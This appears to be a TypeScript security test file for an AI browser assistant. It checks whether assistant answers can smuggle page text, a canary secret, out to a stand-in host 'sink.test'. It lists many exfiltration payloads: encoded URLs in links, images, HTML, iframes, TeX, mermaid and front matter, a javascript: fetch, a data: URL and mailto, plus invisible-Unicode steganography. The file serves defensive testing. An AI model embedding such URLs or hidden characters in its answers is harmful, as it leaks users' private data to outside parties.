import { Marked } from 'marked';
import { DOCUMENT_WORDS } from '../../../components/history/document-words.ts';
import type { ThreadState } from '../../../lib/contracts/index.ts';
import { markdownHtml, threadHtml, threadMarkdown } from '../../../lib/documents/index.ts';
import {
  asked,
  buildThread,
  pageContext,
  runEnd,
  runStart,
  step,
  textDelta,
} from '../../../lib/testing/agent/scripted-thread.ts';
import { canariesIn, ON_PAGE } from '../canaries.ts';
import { type Attempt, type Family, HARMLESS, type Outcome } from './family.ts';

const SECRET = `${ON_PAGE} Alice Example, born 1980, balance 4711`;
const hex = Buffer.from(SECRET).toString('hex');
const base64 = Buffer.from(SECRET).toString('base64url');
const letters = [...hex].map((digit) => String.fromCharCode(97 + Number.parseInt(digit, 16))).join('');
const parts = (text: string, size: number) => text.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];

/** Addresses that carry the secret, each in another part or spelling. */
const ADDRESSES: Record<string, string> = {
  'a query': `https://sink.test/?d=${encodeURIComponent(SECRET)}`,
  'a query in hexadecimal': `https://sink.test/?${hex}`,
  'many short parameters': `https://sink.test/?${parts(hex, 4)
    .map((part, at) => `a${at}=${part}`)
    .join('&')}`,
  'a path': `https://sink.test/${encodeURIComponent(SECRET)}`,
  'a path in base64': `https://sink.test/${base64}`,
  'many short segments': `https://sink.test/${parts(letters, 3).join('/')}`,
  'segments of letters': `https://sink.test/${parts(letters, 12).join('/')}`,
  'segments of figures': `https://sink.test/${parts(hex.replace(/[a-f]/g, '7'), 6).join('/')}`,
  'a file name of words': `https://sink.test/${SECRET.toLowerCase().replace(/[^a-z\d]+/g, '-')}.html`,
  'a fragment': `https://sink.test/#${base64}`,
  'a short fragment of words': `https://sink.test/#${ON_PAGE}`,
  'one label': `https://${hex.slice(0, 60)}.sink.test/`,
  'many labels': `https://${parts(hex, 8).slice(0, 14).join('.')}.sink.test/`,
  'labels of letters': `https://${parts(letters, 15).slice(0, 8).join('.')}.sink.test/`,
  'the words as labels': `https://${ON_PAGE}.sink.test/`,
  'an international label': `https://${parts(letters, 14)[0]}ü${parts(letters, 14)[1]}.sink.test/`,
  'a user name': `https://${hex.slice(0, 40)}@sink.test/`,
  'a password': `https://a:${ON_PAGE}@sink.test/`,
  'parameters of a segment': `https://sink.test/a;${parts(letters, 6).slice(0, 12).join(';')}`,
  'encoded twice': `https://sink.test/${encodeURIComponent(encodeURIComponent(SECRET))}`,
  'encoded throughout': `https://sink.test/${[...SECRET].map((sign) => `%${Buffer.from(sign).toString('hex')}`).join('')}`,
  'a mail': `mailto:a@sink.test?subject=${encodeURIComponent(SECRET)}&body=${hex}`,
  'the name of a mailbox': `mailto:${hex}@sink.test`,
  'a script': `javascript:fetch('https://sink.test/${hex}')`,
  'a document of its own': `data:text/html,<img src=https://sink.test/${hex}>`,
  'another program': `ms-word:ofe|u|https://sink.test/${hex}`,
};

/** How an answer presents an address to the user or to the browser. */
const FORMS: Record<string, (url: string) => string> = {
  link: (url) => `See [more](${url}).`,
  'reference link': (url) => `See [more][1].\n\n[1]: ${url}`,
  'automatic link': (url) => `See <${url}>.`,
  'bare address': (url) => `See ${url} for more.`,
  image: (url) => `![map](${url})`,
  'reference image': (url) => `![map][1]\n\n[1]: ${url} "a title"`,
  'linked image': (url) => `[![map](${url})](${url})`,
  'table cell': (url) => `| a | b |\n|---|---|\n| [x](${url}) | ![y](${url}) |`,
  'list item': (url) => `- [x](${url})\n  - <${url}>`,
  heading: (url) => `# [x](${url})\n\n> ![y](${url})`,
  footnote: (url) => `So it is.[^1]\n\n[^1]: ${url}`,
  HTML: (url) =>
    `<a href="${url}">x</a> <img src="${url}"> <link rel="prefetch" href="${url}"><link rel=dns-prefetch href="${url}">`,
  'HTML that loads': (url) =>
    `<video poster="${url}"><source src="${url}"></video><svg><image href="${url}"/></svg><iframe src="${url}">`,
  'block of HTML': (url) => `<div>\n<img src="${url}">\n</div>`,
  formula: (url) => `$\\href{${url}}{x}$ and $$\\includegraphics{${url}} \\style{background:url(${url})}{y}$$`,
  diagram: (url) => `\`\`\`mermaid\nflowchart LR\n  A@{ img: "${url}" } --> B\n  click B href "${url}"\n\`\`\``,
  'front matter': (url) => `---\nimage: ${url}\n---\n\n[[${url}]] ![[${url}]]`,
};

function threadWith(answer: string): ThreadState {
  return buildThread(
    asked('q', 'What does this page say?'),
    runStart('r', { page: { title: 'Tides', url: 'https://page.test/' } }),
    { type: 'context-start', contextId: 'c', tabId: 1 },
    { type: 'context-available', contextId: 'c', context: pageContext({ text: `Tides. ${SECRET}` }), ms: 1 },
    ...step('r:0', textDelta(answer)),
    runEnd(),
  );
}

const chat = (answer: string) => ({ title: 'Tides', createdAt: 0, updatedAt: 0, thread: threadWith(answer) });

const LOADING =
  /<(?:img|iframe|script|video|audio|source|object|embed|form|link|base|image|dialog|input)\b[^>]*(?:https?:|javascript:|\bsrc\b)[^>]*>/gi;

/** What one click on a rendered answer would send, and what would be sent without one. */
function drawnLeaks(html: string): string[] {
  const addresses = [...html.matchAll(/\sdata-address="([^"]*)"/g)].map(([, address = '']) =>
    address.replaceAll('&amp;', '&'),
  );
  return [
    ...(html.match(LOADING) ?? []),
    // The host of an address in the page is looked up when the page is rendered.
    ...(html.match(/\s(?:href|src|srcset|poster|action|ping)="(?!\/options\.html)[^"#][^"]*"/g) ?? []),
    ...addresses.filter(carriesMuch),
  ];
}

/**
 * Whether an address reveals more than a page's own addresses: more than the limit in SECURITY.md, or text from the
 * page.
 */
function carriesMuch(address: string): boolean {
  const url = new URL(address);
  if (url.protocol === 'mailto:')
    return url.search.length > 32 || url.pathname.length > 60 || canariesIn(address).length > 0;
  const labels = url.hostname.split('.').slice(0, -2);
  const size = `${labels.join('.')}${url.pathname.slice(1)}${url.search}${url.hash}`.length;
  return (
    !/^https?:$/.test(url.protocol) ||
    url.username !== '' ||
    url.password !== '' ||
    size > 40 ||
    labels.some((label) => label.length >= 20) ||
    canariesIn(address).length > 0
  );
}

/** What a Markdown document loads or runs in programs that render it. */
function markdownLeaks(text: string): string[] {
  const marked = new Marked({ gfm: true });
  const leaks: string[] = [];
  marked.walkTokens(marked.lexer(text.replace(/^---\n.*?\n---\n/s, '')), (token) => {
    if (token.type === 'image' || token.type === 'html') leaks.push(token.raw);
    if (token.type === 'code' && /^(?:mermaid|dataview|plantuml|dot|query|tikz)/i.test(token.lang ?? ''))
      leaks.push(token.lang);
  });
  return [
    ...leaks,
    ...(text.match(/(?<!\\)\\(?:href|includegraphics|style)\b/g) ?? []),
    ...(text.match(/(?<!\\)!\[\[/g) ?? []),
  ];
}

type Draw = (thread: ThreadState) => string;

async function waysOut(draw: Draw, answer: string): Promise<Record<string, string[]>> {
  const exported = await threadHtml(chat(answer), DOCUMENT_WORDS, 'en');
  const lookUps = /x-dns-prefetch-control" content="off"/.test(exported) ? [] : ['hosts are looked up'];
  return {
    'in the panel': drawnLeaks(draw(threadWith(answer))),
    'in an exported HTML file': [...(exported.match(LOADING) ?? []), ...lookUps],
    'as it is copied': markdownHtml(answer).match(LOADING) ?? [],
    'in an exported Markdown file': markdownLeaks(threadMarkdown(chat(answer), DOCUMENT_WORDS)),
  };
}

async function sendAway(draw: Draw, answer: string): Promise<Outcome> {
  const leaks = Object.entries(await waysOut(draw, answer)).flatMap(([way, found]) =>
    found.map((each) => `${way}: ${each}`),
  );
  return leaks.length === 0 ? HARMLESS : { leak: leaks.join(' | '), hasSent: true };
}

/** Invisible characters that could carry a text when an answer is copied or saved. */
const UNSEEN: Record<string, readonly [string, string]> = {
  tags: ['\u{e0061}', '\u{e0062}'],
  'characters of no width': ['\u200b', '\u2060'],
  'joiners behind Latin letters': ['\u200c', '\u200d'],
  'variation selectors': ['\u{e0101}', '\u{e0102}'],
  'private characters': ['\ue001', '\ue002'],
  overrides: ['\u202d', '\u202e'],
  'soft hyphens': ['\u00ad', ''],
  controls: ['\u0001', '\u0002'],
  fillers: ['\u3164', '\uffa0'],
  'characters that are none': ['\ufdd0', '\ufdd1'],
};

const bits = (text: string) =>
  [...Buffer.from(text)].flatMap((byte) => Array.from({ length: 8 }, (_, at) => (byte >> at) & 1));

const PLACES: Record<string, (hidden: string) => string> = {
  'within a sentence': (hidden) => `Dear Bob,${hidden} thank you.`,
  'at the end': (hidden) => `Dear Bob, thank you.${hidden}`,
  'within code': (hidden) => `\`\`\`js\nlet a = 1;${hidden}\n\`\`\``,
  'in a table': (hidden) => `| a |\n|---|\n| 1${hidden} |`,
};

async function hide(
  draw: Draw,
  [zero, one]: readonly [string, string],
  put: (hidden: string) => string,
): Promise<Outcome> {
  const answers = [SECRET, 'Nothing of the kind, and longer than the other text is.'].map((secret) =>
    put(
      bits(secret)
        .map((bit) => (bit ? one : zero))
        .join(''),
    ),
  );
  const outputs = await Promise.all(
    answers.map(async (answer) => ({
      'the panel': draw(threadWith(answer)),
      'a Markdown file': threadMarkdown(chat(answer), DOCUMENT_WORDS),
      'an HTML file': await threadHtml(chat(answer), DOCUMENT_WORDS, 'en'),
    })),
  );
  const [first, second] = outputs;
  const differing = Object.keys(first ?? {}).filter(
    (way) => first?.[way as 'the panel'] !== second?.[way as 'the panel'],
  );
  return differing.length === 0 ? HARMLESS : { leak: `it stands in ${differing}`, hasSent: true };
}

/** `draw`: renders a chat like the panel. */
export function answerFamily(draw: Draw): Family {
  return {
    name: 'answers that carry what was read',
    controls: [
      'a long address is risky',
      'an address that repeats what was read is risky',
      'HTML in an answer is text in an exported file',
      'fences that other programs draw or run are text in an exported file',
      'commands of TeX that load something are none in an exported file',
      'an exported file has no characters that nobody sees',
    ],
    minSent: 1,
    attempts: () => [
      ...Object.entries(ADDRESSES).flatMap(([where, url]) =>
        Object.entries(FORMS).map(
          ([form, write]): Attempt => ({ name: `${form}, ${where}`, run: () => sendAway(draw, write(url)) }),
        ),
      ),
      ...Object.entries(UNSEEN).flatMap(([name, pair]) =>
        Object.entries(PLACES).map(
          ([place, put]): Attempt => ({ name: `${name} ${place}`, run: () => hide(draw, pair, put) }),
        ),
      ),
    ],
  };
}
